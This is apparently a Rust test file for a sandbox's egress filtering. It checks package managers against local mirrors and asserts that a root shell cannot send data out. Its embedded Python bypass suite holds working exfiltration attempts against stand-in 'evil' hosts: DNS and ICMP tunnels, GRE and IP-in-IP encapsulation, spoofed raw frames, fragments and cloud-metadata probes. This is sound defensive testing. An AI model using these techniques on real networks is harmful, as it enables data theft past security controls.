//! What leaves real guests: package managers against mirrors of the test's own, through rules and without.
//!
//! Names and mirrors stand in a network and a mount namespace that a test makes for itself.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use cabana_store::{Kind, Store};
use cabana_test_guest::host;
use cabana_test_guest::namespaces::{EVIL, METADATA, MIRROR, PRIVATE, in_namespaces, run};
use rcgen::{CertificateParams, IsCa, Issuer, KeyPair};
use rustls::pki_types::PrivateKeyDer;
use rustls::{ServerConfig, ServerConnection, StreamOwned};

/// The mirrors: a folder served by HTTP and HTTPS under names of `/etc/hosts`.
struct Mirrors {
    folder: tempfile::TempDir,
    authority: PathBuf,
}

impl Mirrors {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path();
        let hosts = root.join("hosts");
        fs::write(
            &hosts,
            format!("{MIRROR} pypi.test git.test deb.test npm.test other.test\n127.0.0.1 sly.pypi.test sly.git.test\n{EVIL} evil.test\n"),
        )
        .unwrap();
        run("mount", &["--bind", hosts.to_str().unwrap(), "/etc/hosts"]);
        fs::create_dir_all(root.join("www/simple/hello-cabana")).unwrap();
        debian_package(root);
        git_repository(root);
        npm_package(root);
        let www = Arc::new(root.join("www"));
        let (authority, tls) = certificates(root);
        serve(80, Arc::clone(&www), None);
        serve(443, www, Some(tls));
        Self { folder, authority }
    }

    fn www(&self) -> PathBuf {
        self.folder.path().join("www")
    }
}

fn debian_package(root: &Path) {
    let package = root.join("package/DEBIAN");
    fs::create_dir_all(&package).unwrap();
    fs::create_dir_all(root.join("package/usr/share/hello-cabana")).unwrap();
    fs::write(root.join("package/usr/share/hello-cabana/it"), "installed by apt\n").unwrap();
    let control = "Package: hello-cabana\nVersion: 1.0\nArchitecture: all\nMaintainer: nobody <n@b>\nDescription: a test\n";
    fs::write(package.join("control"), control).unwrap();
    let deb = root.join("www/hello.deb");
    let folder = root.join("package");
    run("dpkg-deb", &["--root-owner-group", "-b", folder.to_str().unwrap(), deb.to_str().unwrap()]);
    let size = fs::metadata(&deb).unwrap().len();
    let sum = Command::new("sha256sum").arg(&deb).output().unwrap().stdout;
    let sum = String::from_utf8(sum).unwrap();
    let sum = sum.split(' ').next().unwrap();
    let packages = format!("{control}Filename: ./hello.deb\nSize: {size}\nSHA256: {sum}\n");
    fs::write(root.join("www/Packages"), packages).unwrap();
}

fn git_repository(root: &Path) {
    let work = root.join("work");
    let work = work.to_str().unwrap();
    let bare = root.join("www/hello.git");
    let bare = bare.to_str().unwrap();
    let git = |words: &[&str]| {
        let identity =
            ["-c", "user.name=n", "-c", "user.email=n@b", "-c", "init.defaultBranch=main"];
        run("git", &[&identity[..], words].concat());
    };
    git(&["init", "-q", work]);
    fs::write(root.join("work/it"), "cloned by git\n").unwrap();
    git(&["-C", work, "add", "it"]);
    git(&["-C", work, "commit", "-qm", "it"]);
    git(&["clone", "-q", "--bare", work, bare]);
    git(&["-C", bare, "update-server-info"]);
}

fn npm_package(root: &Path) {
    let package = root.join("npm/package");
    fs::create_dir_all(&package).unwrap();
    fs::write(package.join("index.js"), "console.log('installed by npm')\n").unwrap();
    let named = "\"name\": \"hello-cabana\", \"version\": \"1.0.0\"";
    fs::write(package.join("package.json"), format!("{{{named}}}")).unwrap();
    let (packed, from) = (root.join("www/hello-cabana.tgz"), root.join("npm"));
    run("tar", &["-czf", packed.to_str().unwrap(), "-C", from.to_str().unwrap(), "package"]);
    // What a registry says of a package.
    let version =
        format!("{{{named}, \"dist\": {{\"tarball\": \"https://npm.test/hello-cabana.tgz\"}}}}");
    let about = format!(
        "{{\"name\": \"hello-cabana\", \"dist-tags\": {{\"latest\": \"1.0.0\"}}, \"versions\": {{\"1.0.0\": {version}}}}}"
    );
    fs::write(root.join("www/hello-cabana"), about).unwrap();
}

fn certificates(root: &Path) -> (PathBuf, Arc<ServerConfig>) {
    let key = KeyPair::generate().unwrap();
    let mut params = CertificateParams::new(Vec::new()).unwrap();
    params.is_ca = IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    params.distinguished_name.push(rcgen::DnType::CommonName, "The test's authority");
    let authority = root.join("authority.pem");
    fs::write(&authority, params.self_signed(&key).unwrap().pem()).unwrap();
    let issuer = Issuer::new(params, key);
    let key = KeyPair::generate().unwrap();
    let names = ["pypi.test", "git.test", "npm.test"].map(str::to_owned).to_vec();
    let leaf = CertificateParams::new(names).unwrap().signed_by(&key, &issuer).unwrap();
    let key = PrivateKeyDer::Pkcs8(key.serialize_der().into());
    let config =
        ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(vec![leaf.der().clone()], key)
            .unwrap();
    (authority, Arc::new(config))
}

fn serve(port: u16, www: Arc<PathBuf>, tls: Option<Arc<ServerConfig>>) {
    let listener = TcpListener::bind((MIRROR, port)).unwrap();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let (stream, www, tls) = (stream.unwrap(), Arc::clone(&www), tls.clone());
            thread::spawn(move || match tls {
                None => answer(stream, &www),
                Some(tls) => {
                    answer(StreamOwned::new(ServerConnection::new(tls).unwrap(), stream), &www)
                }
            });
        }
    });
}

/// Answers requests for files and folders one after the other.
fn answer(mut stream: impl Read + Write, www: &Path) -> Option<()> {
    loop {
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte).ok()?;
            head.push(byte[0]);
        }
        let head = String::from_utf8(head).ok()?;
        let path = head.split(' ').nth(1)?.split('?').next()?.trim_start_matches('/').to_owned();
        let path = www.join(path);
        let body = if path.is_dir() { listing(&path) } else { fs::read(&path).ok() };
        let (status, body) = body.map_or(("404 Not Found", Vec::new()), |body| ("200 OK", body));
        let kind = if path.is_dir() { "text/html" } else { "application/octet-stream" };
        let head = format!(
            "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        stream.write_all(head.as_bytes()).ok()?;
        stream.write_all(&body).ok()?;
        stream.flush().ok()?;
    }
}

fn listing(folder: &Path) -> Option<Vec<u8>> {
    let mut html = "<!DOCTYPE html><html><body>".to_owned();
    for entry in fs::read_dir(folder).ok()? {
        let name = entry.ok()?.file_name().into_string().ok()?;
        html.push_str(&format!("<a href=\"{name}\">{name}</a>"));
    }
    Some(html.into_bytes())
}

/// Makes a wheel where the mirror serves it from, then installs and clones.
const INSTALL: &str = r#"
exec 2>&1
cd /mirror/simple/hello-cabana
python3 - <<'END'
import zipfile
wheel = zipfile.ZipFile("hello_cabana-1.0-py3-none-any.whl", "w")
info = "hello_cabana-1.0.dist-info/"
wheel.writestr("hello_cabana.py", "print('installed by pip')\n")
wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: hello-cabana\nVersion: 1.0\n")
wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
wheel.writestr(info + "RECORD", "")
wheel.close()
END
cd /
echo 'deb [trusted=yes] http://deb.test/ ./' >/etc/apt/sources.list
rm -rf /etc/apt/sources.list.d
export PIP_BREAK_SYSTEM_PACKAGES=1 PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_ROOT_USER_ACTION=ignore GIT_TERMINAL_PROMPT=0
pip install -q --retries 0 --index-url https://pypi.test/simple/ hello-cabana; echo "pip $?"
python3 -m hello_cabana
git clone -q https://git.test/hello.git; echo "git $?"
cat hello/it
apt-get -qq -o Acquire::Retries=0 update && apt-get -qq install hello-cabana >/dev/null; echo "apt $?"
cat /usr/share/hello-cabana/it
curl -sS -m 60 http://other.test/; echo "curl $?"
curl -sS -m 60 http://sly.pypi.test/; echo "curl $?"
curl -sS -m 60 -H 'Host: other.test' http://deb.test/Packages; echo "curl $?"
curl -sS -m 60 http://93.184.216.34:22/; echo "curl $?"
"#;

#[test]
fn package_managers_work_through_rules() {
    if host().is_none() || !in_namespaces("package_managers_work_through_rules") {
        return;
    }
    let Some(host) = host() else { return };
    let mirrors = Mirrors::new();
    let log = mirrors.folder.path().join("net.jsonl");
    let share = format!("{}:/mirror", mirrors.www().display());
    let words = [
        "run",
        "--allow",
        "pypi.test",
        "--allow",
        "*.pypi.test",
        "--allow",
        "git.test",
        "--allow",
        "deb.test",
        "--host-trust",
        "--net-log",
        log.to_str().unwrap(),
        "--share",
        &share,
        "--",
        "sh",
        "-c",
        INSTALL,
    ];
    let text = host.cabana(words).env("SSL_CERT_FILE", &mirrors.authority).end().succeeded();
    for line in ["pip 0", "installed by pip", "git 0", "cloned by git", "apt 0", "installed by apt"]
    {
        assert!(text.lines().any(|own| own == line), "{line} is missing in\n{text}");
    }
    assert!(!text.contains("curl 0"), "{text}");
    assert!(text.contains("Could not resolve host: other.test"), "{text}");
    let shown = host.cabana(["net", "log", "--denied", log.to_str().unwrap()]).end().succeeded();
    for part in [
        "dns other.test []: denied: no rule allows it",
        "dns sly.pypi.test []: denied: the name led to a loopback address",
        "denied: the client named another host, other.test",
        "93.184.216.34 port 22: denied",
    ] {
        assert!(shown.contains(part), "{part} is missing in\n{shown}");
    }
}

#[test]
fn package_managers_fail_with_a_reason_without_rules() {
    if host().is_none() || !in_namespaces("package_managers_fail_with_a_reason_without_rules") {
        return;
    }
    let Some(host) = host() else { return };
    let mirrors = Mirrors::new();
    let log = mirrors.folder.path().join("net.jsonl");
    let share = format!("{}:/mirror", mirrors.www().display());
    let words =
        ["run", "--net-log", log.to_str().unwrap(), "--share", &share, "--", "sh", "-c", INSTALL];
    let text = host.cabana(words).end().succeeded();
    for word in ["pip", "git", "apt"] {
        assert!(!text.contains(&format!("{word} 0")), "{text}");
    }
    assert!(text.contains("Could not resolve host: git.test"), "{text}");
    let shown = host.cabana(["net", "log", "--denied", log.to_str().unwrap()]).end().succeeded();
    for name in ["pypi.test", "git.test", "deb.test"] {
        let part = format!("dns {name} []: denied: no rule allows it");
        assert!(shown.contains(&part), "{part} is missing in\n{shown}");
    }
}

/// Node.js reads thousands of files before npm says anything.
const NPM_LIMIT: Duration = Duration::from_secs(600);
const NPM: &str = r#"
exec 2>&1
mkdir /tmp/app; cd /tmp/app
export npm_config_audit=false npm_config_update_notifier=false npm_config_fetch_retries=0
npm install --registry https://npm.test/ hello-cabana; echo "npm $?"
[ ! -e node_modules/hello-cabana ] || node -e 'require("hello-cabana")'
"#;

#[test]
#[ignore = "takes minutes in the lab"]
fn npm_installs_through_a_rule() {
    npm("npm_installs_through_a_rule", true);
}

#[test]
#[ignore = "takes minutes in the lab"]
fn npm_fails_with_a_reason_without_a_rule() {
    npm("npm_fails_with_a_reason_without_a_rule", false);
}

fn npm(test: &str, allowed: bool) {
    if host().is_none() || !in_namespaces(test) {
        return;
    }
    let Some(host) = host() else { return };
    if Store::open().unwrap().find(Kind::Image, "tools").is_err() {
        return println!(
            "skipped: there is no image `tools` in the store; `cargo xtask test` builds it"
        );
    }
    let mirrors = Mirrors::new();
    let log = mirrors.folder.path().join("net.jsonl");
    let mut words = vec!["run", "--host-trust", "--net-log", log.to_str().unwrap()];
    words.extend(["--image", "tools", "--memory", "1G"]);
    words.extend(if allowed { &["--allow", "npm.test"][..] } else { &[] });
    words.extend(["--", "sh", "-c", NPM]);
    let call = host.cabana(words).env("SSL_CERT_FILE", &mirrors.authority);
    let text = call.start().end_within(NPM_LIMIT).succeeded();
    if allowed {
        assert!(text.ends_with("npm 0\ninstalled by npm\n"), "{text}");
        return;
    }
    assert!(text.contains("ENOTFOUND") && !text.contains("npm 0"), "{text}");
    let shown = host.cabana(["net", "log", "--denied", log.to_str().unwrap()]).end().succeeded();
    assert!(shown.contains("dns npm.test []: denied: no rule allows it"), "{shown}");
}

/// What arrived where nothing should.
type Arrivals = Arc<Mutex<Vec<String>>>;

fn sink(arrivals: &Arrivals, address: &str) {
    let (tcp, udp) = (TcpListener::bind(address).unwrap(), UdpSocket::bind(address).unwrap());
    let note = |arrivals: &Arrivals, what: String| arrivals.lock().unwrap().push(what);
    let (here, all) = (address.to_owned(), Arc::clone(arrivals));
    thread::spawn(move || {
        for stream in tcp.incoming() {
            note(&all, format!("a connection to {here}"));
            drop(stream);
        }
    });
    let (here, all) = (address.to_owned(), Arc::clone(arrivals));
    thread::spawn(move || {
        let mut buffer = [0; 2048];
        while udp.recv_from(&mut buffer).is_ok() {
            note(&all, format!("a datagram to {here}"));
        }
    });
}

/// A part of the bypass suite that needs a real kernel: sockets of every kind, in the hands of root. Each attempt
/// prints its name as `docs/egress.md` has it, and what came of it.
const ATTEMPTS: &str = r#"
import os, socket, ssl, struct

EVIL, GOOD, TIMEOUT = "198.51.100.66", "93.184.216.34", 60

def attempt(name, act):
    try:
        print(name, "got", repr(act()))
    except Exception as error:
        print(name, "failed", type(error).__name__)

def tcp(host, port, data=b"leak"):
    with socket.create_connection((host, port), TIMEOUT) as stream:
        stream.sendall(data)
        answer = stream.recv(100)
        assert answer, "closed"
        return answer

def udp(host, port, data=b"leak"):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        sender.connect((host, port))
        sender.send(data)
        return sender.recv(100)

def raw(protocol, data, host=EVIL):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as sender:
        sender.settimeout(1)
        sender.sendto(data, (host, 0))
        return sender.recv(100) if protocol != socket.IPPROTO_RAW else None

def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff

def packet(source, target, payload, protocol=17, offset=0, ident=7):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, offset, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload

def frame(data):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind(("eth0", 0x0800))
        sender.send(bytes.fromhex("02caba000001" "02caba000002" "0800") + data)

def datagram(port=53, data=b"leakleak"):
    return struct.pack("!HHHH", 4000, port, 8 + len(data), 0) + data

def tls(server_name, wanted=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((GOOD, 443), TIMEOUT) as stream:
        with context.wrap_socket(stream, server_hostname=server_name) as secure:
            return secure.version()

socket.getaddrinfo("git.test", 443)
print("allowed", tls("git.test"))
attempt("direct-address", lambda: tcp(EVIL, 443))
attempt("direct-address-odd-port", lambda: tcp(EVIL, 8080))
attempt("direct-address-ipv6", lambda: tcp("2001:4860::66", 443))
attempt("private-10", lambda: tcp("10.9.9.9", 80))
attempt("cloud-metadata", lambda: tcp("169.254.169.254", 80))
attempt("dns-over-tls", lambda: tcp(EVIL, 853))
attempt("dns-other-server-tcp", lambda: tcp(EVIL, 53))
attempt("dns-other-server-udp", lambda: udp(EVIL, 53))
attempt("udp-tunnel", lambda: udp(EVIL, 8080))
attempt("gateway-other-port", lambda: tcp("10.107.0.1", 22))
attempt("allowed-host-other-port", lambda: tcp(GOOD, 22))
attempt("quic-to-allowed-host", lambda: udp(GOOD, 443))
attempt("dns-other-name", lambda: socket.getaddrinfo("evil.test", 80))
attempt("dns-tunnel-in-labels", lambda: socket.getaddrinfo("c2VjcmV0.evil.test", 80))
attempt("rebinding-to-loopback", lambda: socket.getaddrinfo("sly.git.test", 80))
attempt("tls-other-name", lambda: tls("evil.test"))
attempt("tls-no-name", lambda: tls(None))
attempt("http-other-host", lambda: tcp(GOOD, 80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
attempt("http-connect", lambda: tcp(GOOD, 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: git.test\r\n\r\n"))
attempt("http2-without-tls", lambda: tcp(GOOD, 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
attempt("icmp-tunnel", lambda: raw(socket.IPPROTO_ICMP, struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"leak"))
attempt("ip-in-ip", lambda: raw(4, packet("10.107.0.2", EVIL, datagram())))
attempt("gre", lambda: raw(47, b"\0\0\x08\0" + packet("10.107.0.2", EVIL, datagram())))
attempt("sctp", lambda: raw(132, b"leakleakleak"))
attempt("source-of-no-session", lambda: frame(packet("10.107.9.9", EVIL, datagram())))
attempt("source-outside-the-guest", lambda: frame(packet("203.0.113.5", EVIL, datagram())))
attempt("source-of-the-gateway", lambda: frame(packet("10.107.0.1", EVIL, datagram())))
attempt("source-loopback", lambda: frame(packet("127.0.0.1", EVIL, datagram())))
attempt("host-loopback", lambda: frame(packet("10.107.0.2", "127.0.0.1", datagram(8080))))
attempt("ipv4-broadcast", lambda: frame(packet("10.107.0.2", "255.255.255.255", datagram(8080))))
attempt("fragments", lambda: [frame(packet("10.107.0.2", EVIL, datagram()[:8], 17, 0x2000)),
                              frame(packet("10.107.0.2", EVIL, datagram()[8:], 17, 1))])
attempt("fragments-that-overlap", lambda: [frame(packet("10.107.0.2", EVIL, datagram(), 17, 0x2000)),
                                           frame(packet("10.107.0.2", EVIL, datagram(), 17, 0))])
"#;

#[test]
fn a_root_shell_gets_nothing_out() {
    if host().is_none() || !in_namespaces("a_root_shell_gets_nothing_out") {
        return;
    }
    let Some(host) = host() else { return };
    let mirrors = Mirrors::new();
    let arrivals = Arrivals::default();
    for address in [EVIL, METADATA, PRIVATE, "127.0.0.1", "[2001:4860::66]"] {
        for port in [22, 53, 80, 443, 853, 8080] {
            sink(&arrivals, &format!("{address}:{port}"));
        }
    }
    sink(&arrivals, &format!("{MIRROR}:22"));
    fs::write(mirrors.www().join("attempts.py"), ATTEMPTS).unwrap();
    let share = format!("{}:/mirror:ro", mirrors.www().display());
    let words = [
        "run",
        "--allow",
        "git.test",
        "--allow",
        "*.git.test",
        "--share",
        &share,
        "--",
        "python3",
        "/mirror/attempts.py",
    ];
    let text = host.cabana(words).end().succeeded();
    println!("{text}");
    assert!(text.contains("allowed TLSv1.3"), "{text}");
    let got: Vec<_> = text.lines().filter(|line| line.contains(" got ")).collect();
    // What only sends frames has nothing to fail at; the servers tell.
    let expected =
        |line: &&&str| !line.ends_with(" got None") && !line.ends_with(" got [None, None]");
    assert_eq!(got.iter().filter(expected).collect::<Vec<_>>(), Vec::<&&str>::new());
    assert_eq!(text.lines().count(), 33, "{text}");
    assert_eq!(*arrivals.lock().unwrap(), Vec::<String>::new());
}

#[test]
fn a_policy_is_explained_without_a_machine() {
    let Some(host) = host() else { return };
    let test = |words: &[&str]| {
        let ended = host.cabana([&["net", "test"], words].concat()).end();
        (ended.status(), ended.text())
    };
    let (status, text) = test(&["10.1.2.3:5432", "--allow", "10.0.0.0/8:5432"]);
    assert!(status == 0 && text.contains("allowed by the rule 10.0.0.0/8:5432"), "{text}");
    let (status, text) = test(&["169.254.169.254:80", "--allow", "0.0.0.0/0"]);
    assert!(
        status == 1
            && text.contains("a cloud metadata address is open only to a rule that names it"),
        "{text}"
    );
    let (status, text) = test(&["pypi.org:22", "--allow", "pypi"]);
    assert!(status == 1 && text.contains("not this port or protocol"), "{text}");
    host.cabana(["net", "test", "a.example", "--allow", "a b"])
        .end()
        .complained_with(125, &["\"a b\"", "no set"]);
}
